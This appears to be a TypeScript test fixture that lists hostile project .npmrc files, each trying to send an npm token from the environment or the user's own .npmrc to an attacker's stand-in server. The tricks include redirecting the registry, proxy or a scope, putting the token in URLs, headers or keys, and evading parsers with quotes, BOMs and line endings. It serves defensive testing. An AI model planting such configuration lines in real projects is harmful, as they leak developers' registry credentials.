/** Addresses that a hostile file plays with, each `host:port`. */
export interface Places {
  /** The registry of the user, whose token is in the user's own .npmrc. */
  readonly users: string;
  /** The attacker's server. */
  readonly evil: string;
}

export interface HostileFile {
  readonly trick: string;
  readonly npmrc: (places: Places) => string;
}

/** In the attacker's files: npm replaces it by what the environment holds. */
const token = '$' + '{NPM_TOKEN}';

/** Project .npmrc files that try to bring a secret of the environment or of the user's own .npmrc to another server. */
export const hostileFiles: readonly HostileFile[] = [
  { trick: 'a registry elsewhere', npmrc: ({ evil }) => `registry=http://${evil}/` },
  { trick: 'the token in the path', npmrc: ({ evil }) => `registry=http://${evil}/${token}/` },
  { trick: 'the token in the query', npmrc: ({ evil }) => `registry=http://${evil}/?t=${token}` },
  { trick: 'the token as user name', npmrc: ({ evil }) => `registry=http://${token}@${evil}/` },
  { trick: 'the token as password', npmrc: ({ evil }) => `registry=http://me:${token}@${evil}/` },
  {
    trick: 'the token for another host',
    npmrc: ({ evil }) => `registry=http://${evil}/\n//${evil}/:_authToken=${token}`,
  },
  {
    trick: 'the token for every host',
    npmrc: ({ evil }) => `registry=http://${evil}/\n_authToken=${token}\nalways-auth=true`,
  },
  {
    trick: 'the token as basic credentials',
    npmrc: ({ evil }) => `registry=http://${evil}/\n//${evil}/:_auth=${token}`,
  },
  {
    trick: 'user name and password',
    npmrc: ({ evil }) =>
      `registry=http://${evil}/\n//${evil}/:username=${token}\n//${evil}/:_password=${token}`,
  },
  {
    trick: 'a scope elsewhere',
    npmrc: ({ evil }) => `@acme:registry=http://${evil}/${token}/\n//${evil}/:_authToken=${token}`,
  },
  {
    trick: 'the token in a key',
    npmrc: ({ evil }) =>
      `registry=http://${evil}/\n//${evil}/${token}/:_authToken=x\n@${token}:registry=http://${evil}/`,
  },
  {
    trick: 'a proxy',
    npmrc: ({ evil }) =>
      `proxy=http://${token}:x@${evil}/\nhttps-proxy=http://${evil}/\nhttp-proxy=http://${evil}/\nnoproxy=`,
  },
  {
    trick: 'the name of the client',
    npmrc: ({ evil }) => `registry=http://${evil}/\nuser-agent=npm ${token}\nnpm-session=${token}`,
  },
  {
    trick: 'other configuration files',
    npmrc: ({ evil }) => `userconfig=./evil-npmrc\nglobalconfig=./evil-npmrc\nregistry=http://${evil}/`,
  },
  {
    trick: 'certificates',
    npmrc: ({ evil }) =>
      `registry=http://${evil}/\nstrict-ssl=false\ncafile=./evil.pem\ncert="${token}"\nkey="${token}"`,
  },
  {
    trick: 'escapes and quotes',
    npmrc: ({ evil }) => `registry="http://${evil}/\\${token}/"\n'registry'='http://${evil}/${token}'`,
  },
  {
    trick: 'optional variables',
    npmrc: ({ evil }) => `registry=http://${evil}/${token.replace('}', '?}')}/${token.replace('}', '-x}')}/`,
  },
  {
    trick: 'sections and line ends',
    npmrc: ({ evil }) => `\uFEFFregistry=http://${evil}/${token}/\r\n[//${evil}/]\r\n_authToken=${token}\r\n`,
  },
  { trick: "the user's host before an @", npmrc: ({ users, evil }) => `registry=http://${users}@${evil}/` },
  {
    trick: "the user's registry in the path",
    npmrc: ({ users, evil }) =>
      `registry=http://${evil}//${users}/\n//${evil}//${users}/:_authToken=${token}`,
  },
];
